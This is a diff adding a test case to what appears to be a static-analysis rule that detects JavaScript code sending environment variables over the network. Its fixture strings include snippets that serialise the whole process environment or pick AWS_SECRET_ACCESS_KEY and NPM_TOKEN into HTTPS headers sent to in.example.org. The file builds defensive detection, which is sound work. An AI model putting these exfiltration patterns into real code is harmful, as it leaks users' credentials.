@@ -493,3 +493,28 @@ test('bad: in Python, settings of a project over a connection that names its ser
   assert.equal(send('body = open(".env").read()', http.replace('in.example.org', 'localhost')), 'nothing');
   assert.equal(send('body = open("data.json").read()', http), 'nothing');
 });
+
+test('good: a function of another script looks up single variables, as those for proxies do', () => {
+  const send = (take: string) => `const https = require("https"); const { proxyFor } = require("./proxy"); exports.get = (url) => { const proxy = proxyFor(url, ${take}); https.request(proxy, { path: url.href }) }`;
+  const proxy = `exports.proxyFor = proxyFor; function proxyFor(url, env = process.env) { if (!asks(url, env)) return null; return read([url.protocol + "_proxy", "all_proxy"], env) } function asks(url, env) { return !read(["no_proxy"], env).includes(url.host) } function read(names, env) { for (const name of names) for (const one of [name.toLowerCase(), name.toUpperCase()]) if (env[one]) return env[one]; return "" }`;
+  const of = (other: string, take = 'process.env', more: Record<string, string> = {}) => findingsOf(rule, { 'index.js': send(take), 'proxy.js': other, ...more })[0]?.severity ?? 'nothing';
+  assert.equal(of(proxy), 'nothing');
+  assert.equal(of(`Object.defineProperty(exports, "__esModule", { value: true }); exports.port = void 0; exports.port = 1; ${proxy}`), 'nothing');
+  assert.equal(of(proxy.replace('exports.proxyFor = proxyFor;', '').replace('function proxyFor', 'export function proxyFor')), 'nothing');
+  for (const other of [
+    'exports.proxyFor = (url, env) => JSON.stringify(env)',
+    'exports.proxyFor = (url, env) => { const all = {}; for (const name in env) all[name] = env[name]; return all }',
+    'exports.proxyFor = (url, env) => Object.keys(env).map((name) => env[name])',
+    'exports.proxyFor = (url, env) => pack(env); function pack(all) { return [...Object.entries(all)] }',
+    `${proxy} proxyFor = (url, env) => ({ ...env })`,
+    `${proxy} exports["proxyFor"] = (url, env) => ({ ...env })`,
+    `${proxy} this.proxyFor = (url, env) => ({ ...env })`,
+    `${proxy} module.exports = require("./other")`,
+    `${proxy} Object.assign(exports, { proxyFor: JSON.stringify })`,
+    `${proxy} function two() { function proxyFor(url, env) { return env.HTTP_PROXY } }`.replace('{ if (!asks', '{ return [env]; if (!asks'),
+    proxy.replace('["no_proxy"]', '["AWS_SECRET_ACCESS_KEY"]'),
+  ]) assert.equal(of(other), 'critical', other);
+  assert.equal(of(proxy, 'Object.assign({}, process.env)'), 'critical');
+  assert.equal(of(proxy, 'process.env', { 'more.js': 'require("./proxy").proxyFor = (url, env) => ({ ...env })' }), 'critical');
+  assert.equal(findingsOf(rule, { 'index.js': 'const { pick } = require("./pick"); require("https").request("https://in.example.org", { headers: pick(process.env, ["NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]) })', 'pick.js': 'exports.pick = (env, names) => names.map((name) => env[name])' })[0]?.severity, 'critical', 'keys of two owners');
+});
